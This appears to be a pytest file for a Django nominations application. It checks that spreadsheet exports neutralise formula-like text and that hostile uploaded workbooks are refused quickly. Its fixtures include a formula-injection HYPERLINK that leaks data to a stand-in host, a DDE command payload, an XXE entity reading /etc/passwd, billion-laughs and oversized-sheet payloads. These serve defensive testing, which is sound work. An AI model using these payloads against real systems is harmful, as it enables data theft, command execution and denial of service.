"""What a person types can reach a spreadsheet: it must arrive there as text, never as a
formula; and a hostile workbook is refused quickly, with a short message, creating nothing."""

import csv
import io
import time
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from campaigns.models import NominationRound
from common.spreadsheets import safe_value
from documents import importer
from documents.summary_xlsx import build_summary_xlsx
from nominations.models import Nomination
from tests.factories import CampaignFactory, make_nomination
from workflows.drafting import update_nomination

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_the_one_helper_neutralises_every_formula_trigger(text):
    assert safe_value(text) == "'" + text.replace("\r", "\r")
    assert safe_value("Nguyễn Văn An") == "Nguyễn Văn An"
    assert safe_value(42) == 42


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_no_formula(content: bytes, text: str):
    cells = list(_cells(content))
    assert all(cell.data_type != "f" for cell in cells), "a cell is a live formula"
    assert any(cell.value == "'" + text for cell in cells), "the text is not there, neutralised"


@pytest.mark.parametrize("text", FORMULAS[:4])
def test_a_round_summary_carries_a_formula_as_text(world, as_user, text):
    nomination_round = NominationRound.objects.create(
        name="Đợt năm 2024",
        basis="annual",
        year=2024,
        opens_at="2024-01-01",
        deadline="2030-12-31",
        created_by=world.office_head,
    )
    update_nomination(world.draft_b, editor=world.officer_b, achievement_summary=text)
    response = as_user(world.office_head).get(f"/documents/rounds/{nomination_round.pk}/trich-ngang.xlsx")
    assert response.status_code == 200
    _assert_no_formula(response.content, text)


def test_a_decision_summary_generator_carries_formulas_as_text(world):
    from documents.data import Nominee

    nominee = Nominee("individual", FORMULAS[0], "=cmd|' /C calc'!A0", "Giấy khen", achievement=FORMULAS[1])
    content = build_summary_xlsx(title="=1+1", subtitle="@x", nominees=[nominee])
    cells = list(_cells(content))
    assert all(cell.data_type != "f" for cell in cells)
    assert {"'=1+1", "'@x", "'" + FORMULAS[0], "'" + FORMULAS[1]} <= {cell.value for cell in cells}


def test_the_import_template_carries_a_campaign_named_like_a_formula_as_text(world, as_user):
    CampaignFactory(name=FORMULAS[0], is_open=True)
    response = as_user(world.officer_b).get("/documents/import/template.xlsx")
    assert response.status_code == 200
    _assert_no_formula(response.content, FORMULAS[0])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_audit_exports_carry_a_formula_reason_as_text(world, as_user, fmt):
    from audit.services import record_event

    record_event("login_failed", username=FORMULAS[0][:150])
    response = as_user(world.inspector).get(f"/audit/export/{fmt}/", {"event_type": "login_failed"})
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        assert any("'" + FORMULAS[0][:150] in row for row in rows)
        assert not any(cell.startswith(("=", "+", "@")) for row in rows[1:] for cell in row)
    else:
        _assert_no_formula(content, FORMULAS[0][:150])


# --- Hostile workbooks ------------------------------------------------------------------------

SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def _workbook_with_sheet(sheet_xml: bytes, *, shared: bytes | None = None) -> bytes:
    """A real workbook whose first sheet (and shared strings) we write by hand."""
    book = Workbook()
    book.active.append(["x"])
    buffer = io.BytesIO()
    book.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = sheet_xml
            elif item.filename == "xl/sharedStrings.xml" and shared is not None:
                data = shared
            target.writestr(item.filename, data)
        if shared is not None and "xl/sharedStrings.xml" not in source.namelist():
            target.writestr("xl/sharedStrings.xml", shared)
    return out.getvalue()


def _empty_rows(count: int, *, dimension: str | None) -> bytes:
    # Rows without numbers: the file stays tiny (the was 277 KiB for two million).
    head = SHEET_HEAD + (f'<dimension ref="{dimension}"/>' if dimension else "") + "<sheetData>"
    return head.encode() + b"<row/>" * count + b"</sheetData></worksheet>"


def _import(world, content: bytes, name="danh-sach.xlsx"):
    started = time.perf_counter()
    result = importer.import_nominations(
        SimpleUploadedFile(name, content), unit=world.officer_b.unit, author=world.officer_b
    )
    return result, time.perf_counter() - started


HOSTILE_WORKBOOKS = {
    "two million empty rows": lambda: _workbook_with_sheet(_empty_rows(2_000_000, dimension="A1:I2000000")),
    "four million empty rows, no dimension": lambda: _workbook_with_sheet(
        _empty_rows(4_000_000, dimension=None)
    ),
    "fifty thousand rows under a lying dimension": lambda: _workbook_with_sheet(
        _empty_rows(50_000, dimension="A1:I10")
    ),
    "a DOCTYPE with an external entity": lambda: _workbook_with_sheet(
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        + SHEET_HEAD.split("\n", 1)[1].encode()
        + b'<sheetData><row r="2"><c r="B2" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>'
    ),
    "a billion laughs": lambda: _workbook_with_sheet(
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        + SHEET_HEAD.split("\n", 1)[1].encode()
        + b"<sheetData></sheetData></worksheet>"
    ),
    "malformed sheet XML": lambda: _workbook_with_sheet(SHEET_HEAD.encode() + b"<sheetData><row r='2'><c"),
    "a 30 MB cell": lambda: _workbook_with_sheet(
        SHEET_HEAD.encode()
        + b'<sheetData><row r="2"><c r="B2" t="s"><v>0</v></c></row></sheetData></worksheet>',
        shared=b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>'
        + b"A" * 30_000_000
        + b"</t></si></sst>",
    ),
    "a zip that is not a workbook": lambda: _zip_with({"hello.txt": b"xin chao"}),
}


def _zip_with(members: dict) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name, data in members.items():
            target.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize("case", sorted(HOSTILE_WORKBOOKS))
def test_a_hostile_workbook_is_refused_quickly_and_creates_nothing(world, unchanged, case):
    content = HOSTILE_WORKBOOKS[case]()
    with unchanged():
        result, seconds = _import(world, content)
    assert [error.row for error in result.errors] == [0], result.errors
    assert len(result.errors[0].message) < 300  # a short message, never the hostile content
    assert not result.created
    print(f"{case}: {len(content) // 1024} KiB refused in {seconds:.2f} s")


def test_a_long_cell_is_refused_quoting_only_its_start(world, unchanged):
    book = Workbook()
    sheet = book.active
    sheet.append([label for label, _width in importer.COLUMNS])
    sheet.append([1, "Cá nhân", "X", "", "giay-khen-ca-nhan", 2024, "", "", "Đ" * 6000])
    buffer = io.BytesIO()
    book.save(buffer)
    with unchanged():
        result, _seconds = _import(world, buffer.getvalue())
    message = result.errors[0].message
    assert "6000" in message and "Đ" * 41 not in message


def test_the_import_page_answers_a_hostile_workbook_with_a_short_400(world, as_user, unchanged):
    content = HOSTILE_WORKBOOKS["two million empty rows"]()
    client = as_user(world.officer_b)
    with unchanged():
        response = client.post("/documents/import/", {"file": SimpleUploadedFile("ds.xlsx", content)})
    assert response.status_code == 400
    assert len(response.content) < 100_000
    assert (
        not Nomination.objects.filter(unit=world.officer_b.unit, status="draft")
        .exclude(pk=world.draft_b.pk)
        .exists()
    )


def test_a_nomination_summary_with_a_formula_is_kept_as_the_person_typed_it(world):
    nomination = make_nomination(
        unit=world.officer_b.unit, author=world.officer_b, achievement_summary=FORMULAS[0]
    )
    assert Nomination.objects.get(pk=nomination.pk).achievement_summary == FORMULAS[0]
